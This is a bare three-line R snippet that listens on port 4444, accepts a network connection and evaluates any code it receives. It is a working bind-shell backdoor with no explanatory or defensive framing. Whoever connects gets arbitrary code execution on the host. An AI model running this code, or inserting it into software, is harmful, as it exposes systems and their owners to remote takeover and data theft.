srv <- serverSocket(4444)
con <- socketAccept(srv)
eval(parse(con))
